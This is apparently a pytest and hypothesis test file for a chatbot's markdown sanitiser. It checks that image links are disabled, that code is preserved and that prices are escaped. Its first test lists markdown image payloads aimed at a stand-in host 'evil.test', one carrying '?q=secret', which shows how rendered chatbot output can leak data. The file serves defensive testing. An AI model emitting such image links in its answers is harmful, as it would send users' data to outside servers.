import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from chatbot.markdown import presentable


@pytest.mark.parametrize(
    "text",
    [
        "![](http://evil.test/?q=secret)",
        "![alt][ref]\n\n[ref]: http://evil.test/x.png",
        "[![alt](http://evil.test/a.png)](http://evil.test)",
        "a lone ` backtick ![a](http://evil.test/a.png)",
        "an escaped \\` backtick ![a](http://evil.test/a.png) and `another",
        "- ![a](http://evil.test/a.png)\n> ![b](http://evil.test/b.png)",
        "```\ncode\n```\n![after](http://evil.test/a.png)",
        "$5 ![a](http://evil.test/a.png) and $6",
        "| a ` b | ![t](http://evil.test/t.png) ` |\n|---|---|",
        "an open ` and\n\n![a](http://evil.test/a.png) another `",
    ],
)
def test_no_picture_is_left_to_fetch(text: str) -> None:
    assert "![" not in presentable(text)


@pytest.mark.parametrize(
    "code", ["`vec![1, 2]` costs", "```rust\nlet v = vec![$a, $b];\n```", "~~~\n$HOME ![x](y)\n~~~\n", "```\nstill open ![x](y) $5"]
)
def test_code_stays_as_it_is(code: str) -> None:
    assert presentable(code) == code


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("from $5 to $10.", r"from \$5 to \$10."),
        ("$5-$10", r"\$5-\$10"),
        (r"already \$5", r"already \$5"),
        ("the area $\\pi r^2$ of it", "the area $\\pi r^2$ of it"),
        ("$$\nE = mc^2\n$$", "$$\nE = mc^2\n$$"),
        ("$5 is $x + 1$ here", "\\$5 is $x + 1$ here"),
    ],
)
def test_prices_are_no_formulas_and_formulas_stay(text: str, shown: str) -> None:
    assert presentable(text) == shown


@given(st.text(alphabet=st.characters(exclude_characters="!$")))
def test_everything_else_stays_as_it_is(text: str) -> None:
    assert presentable(text) == text


@given(
    st.lists(
        st.sampled_from(
            ["![a](http://x/)", "![", "](http://x/)", "`", "``", "```", "~~~", "\n", "\\", "| ", "- ", "> ", "    ", "<b>", "a "]
        )
    )
)
def test_no_arrangement_of_marks_lets_a_picture_through(marks: list[str]) -> None:
    blocks = MarkdownIt("commonmark").enable("table").parse(presentable("".join(marks)))
    assert all(token.type != "image" for block in blocks for token in block.children or [])


@given(st.text(alphabet="![]()`~$\\\n a1", max_size=60))
def test_only_backslashes_are_ever_added(text: str) -> None:
    assert presentable(text).replace("\\", "") == text.replace("\\", "")


@pytest.mark.timeout(10)
def test_a_very_long_answer_takes_no_time() -> None:
    for text in ("$a " * 50_000, "`" * 50_001 + "x", "![" * 50_000, "``` \n" * 20_000):
        presentable(text)
